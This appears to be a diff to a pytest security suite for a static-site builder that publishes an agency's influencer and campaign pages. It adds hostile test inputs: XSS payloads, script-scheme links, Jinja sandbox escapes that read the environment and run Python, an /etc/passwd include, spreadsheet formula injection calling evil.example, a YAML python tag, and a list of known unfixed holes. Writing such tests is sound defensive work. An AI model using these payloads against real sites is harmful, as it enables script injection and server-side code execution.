@@ -77,6 +77,7 @@ def _line(root: Path, path: str, needle: str, encoding: str = "utf-8") -> int:
 
 
 Expected = tuple[str, int, str]  # path, line, code
+ANY_CODE = "*"  # where no code says it yet: any error at that place
 REFUSED: dict[str, Callable[[Path], Expected]] = {}
 BUILDS: dict[str, Callable[[Path], None]] = {}
 
@@ -131,6 +132,40 @@ def name_with_a_line_break(root: Path) -> Expected:
     return VELONDE, _line(root, VELONDE, "  - name: \"Grégoire"), "schema.value"
 
 
+@refused
+def agency_name_with_a_line_break(root: Path) -> Expected:
+    _edit(root, "content/workspace.yml", "agency: Sillage Influence", "agency: \"Sillage\\n<h1>Influence</h1>\"")
+    return "content/workspace.yml", 1, "schema.value"
+
+
+@refused
+def influencer_name_with_a_carriage_return(root: Path) -> Expected:
+    _edit(root, HUGO, "name: Hugo Benoît", "name: \"Hugo\\rBenoît <h1>x</h1>\"")
+    return HUGO, _line(root, HUGO, "name: \"Hugo"), "schema.value"
+
+
+@refused
+def influencer_name_with_a_line_separator(root: Path) -> Expected:
+    # U+2028, which Word and web pages paste: a line break to Unicode, and to the browser showing it.
+    _edit(root, HUGO, "name: Hugo Benoît", "name: \"Hugo\\u2028Benoît\"")
+    return HUGO, _line(root, HUGO, "name: \"Hugo"), "schema.value"
+
+
+KNOWN_HOLES = {
+    "link_with_backslashes_to_another_host": "check passes it; the build's verification refuses the sites showing it "
+                                             "(a link to no built file)",
+    "theme_page_template_reading_the_environment": "page templates of themes/ are rendered by a Jinja that is not "
+                                                   "sandboxed: one reads the builder's environment (HOME) into a site",
+    "theme_override_running_python": "themes/overrides/ is rendered by MkDocs' Jinja, not sandboxed: one runs Python "
+                                     "(os.getcwd()) in the build and publishes its result",
+    "label_that_is_a_reserved_heading_id": "check passes a label that makes a heading id Material keeps for itself; "
+                                           "the build's verification refuses every site with it",
+    "label_that_is_a_script_link": "a label is Markdown in pressbook's headings: check passes a javascript: link in "
+                                   "one, the build's verification refuses every site with it",
+    "influencer_name_with_a_line_separator": "a name is one line, but U+2028 (and U+0085) in one is not refused",
+}
+
+
 @builds
 def campaign_title_with_attribute_quotes(root: Path) -> None:
     _edit(root, f"{NOEL}/brief.md", "title: ", "title: \"Noël' onmouseover='alert(1)' \\\" x=\\\" <i>gourmand</i>\" #")
@@ -140,6 +175,15 @@ def campaign_title_with_attribute_quotes(root: Path) -> None:
 def showcase_headline_with_markup(root: Path) -> None:
     _edit(root, f"{PRINTEMPS}/showcase.md", 'headline: "Éclat de printemps',
           'headline: "<svg onload=alert(\'headline\')></svg> Éclat de printemps')
+
+
+@builds
+def names_that_are_materials_own_ids(root: Path) -> None:
+    # Material finds its settings, its search, its consent form by these ids: such a name stays text.
+    _edit(root, "content/influencers/chloe-marin.md", "name: Chloé Marin", "name: __config")
+    _edit(root, "content/clients/chocolaterie-belleroche.yml", "name: Chocolaterie Belleroche", "name: __consent")
+    _edit(root, "content/clients/chocolaterie-belleroche.yml", "  - name: Karim Saïdi", "  - name: __md_hash")
+    _edit(root, "content/campaigns/rituel-hiver-2027/brief.md", "title: ", "title: __palette #")
 
 
 @refused
@@ -173,7 +217,8 @@ def attribute_list_behind_quoting_tricks(root: Path) -> None:
 
 @builds
 def headings_named_after_materials_globals(root: Path) -> None:
-    _append(root, f"{PRINTEMPS}/showcase.md", "\n## __search\n\n### __config {: #__config }\n\n#### __md_scope\n")
+    _append(root, f"{PRINTEMPS}/showcase.md", "\n## __search\n\n### __config {: #__config }\n\n#### __md_scope\n\n"
+            "## Titre {#__tabs}\n")
 
 
 @builds
@@ -280,8 +325,9 @@ def image_in_a_table_cell(root: Path) -> Expected:
 
 
 @builds
-def image_of_content_assets(root: Path) -> None:
-    _append(root, f"{PRINTEMPS}/showcase.md", "\n![Le logo](assets/logos/herbier-de-lure.png)\n")
+def image_of_content_assets_with_markup_in_its_alt_and_title(root: Path) -> None:
+    _append(root, f"{PRINTEMPS}/showcase.md", "\n![Le logo](assets/logos/herbier-de-lure.png)\n\n"
+            "![<img src=x onerror=alert('alt')>](assets/logos/herbier-de-lure.png '<svg onload=alert&#40;1&#41;> \"x')\n")
 
 
 # --- links ---------------------------------------------------------------------------------------
@@ -290,6 +336,19 @@ def image_of_content_assets(root: Path) -> None:
 def links_with_script_schemes(root: Path) -> None:
     _append(root, HUGO, "\n[a](javascript:alert('link')) [b](vbscript:msgbox(1)) "
             "[c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [d](JaVaScRiPt:alert(4))\n")
+
+
+@builds
+def links_to_files_and_other_origins(root: Path) -> None:
+    _append(root, HUGO, "\n[i](file:///etc/passwd) [j](//evil.example/x)\n\n"
+            "Texte &#x3C;script&#x3E;alert(&#39;entity&#39;)&#x3C;/script&#x3E; en entités.\n")
+
+
+@refused
+def link_with_backslashes_to_another_host(root: Path) -> Expected:
+    # Browsers read a backslash as a slash: two of them before a host make a link to another site.
+    _append(root, HUGO, "\nVoir [le dossier](\\\\evil.example\\share).\n")
+    return HUGO, _line(root, HUGO, "Voir [le dossier]"), ANY_CODE
 
 
 @builds
@@ -341,13 +400,108 @@ def theme_template_with_a_jinja_syntax_error(root: Path) -> Expected:
 @builds
 def unknown_label_key(root: Path) -> None:
     _write(root, "themes/labels.yml", "fr:\n  dashbord: \"<script>alert('label')</script>\"\n"
-           "  journal: \"Carnet <img src=x onerror=alert('label')>\"\n")
+           "  journal: \"Carnet <img src=x onerror=alert('label')>\"\n"
+           "  notes: \"Notes <svg onload=alert('heading')>\"\n")
+
+
+@refused
+def label_that_is_a_reserved_heading_id(root: Path) -> Expected:
+    # Labels are headings of pressbook's pages (## {{ labels.notes }}), whose ids MkDocs makes of them.
+    _write(root, "themes/labels.yml", "fr:\n  notes: __config\n")
+    return "themes/labels.yml", 2, "theme.label"
+
+
+@refused
+def label_that_is_a_script_link(root: Path) -> Expected:
+    _write(root, "themes/labels.yml", "fr:\n  networks: \"[Réseaux](javascript:alert('label'))\"\n")
+    return "themes/labels.yml", 2, "theme.label"
+
+
+@refused
+def theme_page_template_reading_the_environment(root: Path) -> Expected:
+    # Jinja reaches Python's modules through any function's globals, unless it is sandboxed.
+    _write(root, "themes/pages/method.md", "# Méthode\n\n{{ lipsum.__globals__['os'].environ.get('HOME') }}\n")
+    return "themes/pages/method.md", 3, "theme.template"
+
+
+@refused
+def theme_override_running_python(root: Path) -> Expected:
+    _write(root, "themes/overrides/main.html", '{% extends "base.html" %}\n{% block announce %}\n'
+           "{{ cycler.__init__.__globals__.os.getcwd() }}\n{% endblock %}\n")
+    return "themes/overrides/main.html", 3, "theme.template"
+
+
+@refused
+def theme_template_including_a_file_of_the_machine(root: Path) -> Expected:
+    _write(root, "themes/pages/journal.md", "# Journal\n{% include '../../../../../../etc/passwd' %}\n")
+    return "themes/pages/journal.md", 2, "theme.template"
+
+
+@refused
+def themes_itself_a_link(root: Path) -> Expected:
+    (root.parent / "elsewhere-theme" / "assets").mkdir(parents=True)
+    (root / "themes").symlink_to(root.parent / "elsewhere-theme", target_is_directory=True)
+    return "themes", 1, "theme.symlink"
 
 
 @refused
 def duplicate_label_key(root: Path) -> Expected:
     _write(root, "themes/labels.yml", "fr:\n  journal: Carnet\n  journal: Journal\n")
     return "themes/labels.yml", 3, "yaml.duplicate-key"
+
+
+# --- files named by the workspace ----------------------------------------------------------------
+
+@refused
+def logo_outside_content(root: Path) -> Expected:
+    _edit(root, VELONDE, "logo: assets/logos/velonde.png", "logo: assets/../../mkdocs.yml")
+    return VELONDE, _line(root, VELONDE, "logo:"), "file.outside"
+
+
+@refused
+def logo_that_is_an_svg_with_a_script(root: Path) -> Expected:
+    _write(root, "content/assets/logos/velonde.svg",
+           '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("logo")</script></svg>')
+    _edit(root, VELONDE, "logo: assets/logos/velonde.png", "logo: assets/logos/velonde.svg")
+    return VELONDE, _line(root, VELONDE, "logo:"), "file.image"
+
+
+@refused
+def cover_from_another_site(root: Path) -> Expected:
+    path = f"{PRINTEMPS}/showcase.md"
+    _edit(root, path, "cover: assets/covers/printemps-eclat-2026.png", "cover: https://evil.example/cover.png")
+    return path, _line(root, path, "cover:"), "file.outside"
+
+
+@refused
+def theme_logo_from_another_site(root: Path) -> Expected:
+    _edit(root, "mkdocs.yml", "theme:\n  name: material", "theme:\n  name: material\n  logo: https://evil.example/l.png")
+    return "mkdocs.yml", _line(root, "mkdocs.yml", "  logo:"), "schema.value"
+
+
+@refused
+def python_tag_in_a_content_file(root: Path) -> Expected:
+    _append(root, VELONDE, "extra: !!python/object/apply:os.getcwd []\n")
+    return VELONDE, _line(root, VELONDE, "extra:"), "yaml.tag"
+
+
+@refused
+def file_larger_than_a_mebibyte(root: Path) -> Expected:
+    _append(root, f"{NOEL}/brief.md", "\n" + ("Lorem ipsum dolor sit amet. " * 40 + "\n") * 1000)
+    return f"{NOEL}/brief.md", 1, "file.too-large"
+
+
+@refused
+def bidi_override_in_a_file_name(root: Path) -> Expected:
+    card = root / "content" / "influencers" / "hugo-benoit.md"
+    card.rename(card.with_name("hugo-\u202etxt.md"))
+    return "content/influencers/hugo-\u202etxt.md", 1, "text.invisible"
+
+
+@refused
+def emoji_joined_by_a_zero_width_joiner_in_a_name(root: Path) -> Expected:
+    _edit(root, HUGO, "name: Hugo Benoît", "name: Hugo Benoît 👨\u200d🍳")
+    return HUGO, _line(root, HUGO, "name: Hugo"), "text.invisible"
 
 
 # --- symbolic links in content/ ------------------------------------------------------------------
@@ -577,12 +731,16 @@ def demo_errors(tmp_path_factory: pytest.TempPathFactory) -> set[Expected]:
     return _errors(copy_demo(tmp_path_factory.mktemp("demo") / "demo"))
 
 
-@pytest.mark.parametrize("name", sorted(REFUSED))
+@pytest.mark.parametrize("name", [
+    pytest.param(name, marks=pytest.mark.xfail(strict=True, raises=AssertionError, reason=KNOWN_HOLES[name]))
+    if name in KNOWN_HOLES else name for name in sorted(REFUSED)])
 def test_refused(name: str, tmp_path: Path, demo_errors: set[Expected], monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("SOURCE_DATE_EPOCH", DEMO_EPOCH)
     root = copy_demo(tmp_path / "demo")
     expected = REFUSED[name](root)
     found = _errors(root) - demo_errors
+    if expected[2] == ANY_CODE:
+        found = {(path, line, ANY_CODE) for path, line, _ in found}
     assert expected in found, sorted(found)
     result = build(root)
     assert not result.ok
@@ -646,6 +804,8 @@ SHOWN = [
      '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'),
     ("internal", "campaigns/printemps-eclat-2026/posts.html", "@SUM(1+1)*cmd|' /C calc'!A0"),
     ("internal", "campaigns/rentree-velotaf-2026/posts.html", "Meylan, crème brûlée sous la pluie"),
+    ("internal", "influencers/hugo-benoit.html", "Texte <script>alert('entity')</script> en entités."),
+    ("internal", "influencers/lea-fontaine.html", "Notes <svg onload=alert('heading')>"),
 ]
 
 
@@ -660,6 +820,25 @@ def _text(page: Path) -> str:
 @pytest.mark.parametrize("site, page, text", SHOWN, ids=[f"{s}/{p}:{t[:24]}" for s, p, t in SHOWN])
 def test_what_the_cases_wrote_is_shown_as_text(hostile_root: Path, site: str, page: str, text: str) -> None:
     assert " ".join(text.split()) in _text(hostile_root / "site" / site / page)
+
+
+# Names in the theme's attributes, as the browser reads them: the same text, not markup.
+ATTRIBUTES = [
+    ("internal", "index.html", 'meta[name="description"]', "content", "\"><script>alert('description')</script>"),
+    ("client-velonde", "index.html", 'meta[name="description"]', "content", "\"><script>alert('description')</script>"),
+    ("public", "case-studies/printemps-eclat-2026.html", 'meta[property="og:title"]', "content",
+     "<svg onload=alert('headline')></svg> Éclat de printemps : comment un sérum artisanal de Haute-Provence a "
+     "conquis TikTok et YouTube"),
+]
+
+
+@pytest.mark.parametrize("site, page, selector, attribute, value", ATTRIBUTES)
+def test_names_in_attributes_are_the_text_as_typed(hostile_root: Path, site: str, page: str, selector: str,
+                                                   attribute: str, value: str) -> None:
+    from selectolax.lexbor import LexborHTMLParser
+
+    tree = LexborHTMLParser((hostile_root / "site" / site / page).read_text(encoding="utf-8"))
+    assert [node.attributes.get(attribute) for node in tree.css(selector)] == [value]
 
 
 def test_no_page_shows_mojibake(hostile_root: Path) -> None:
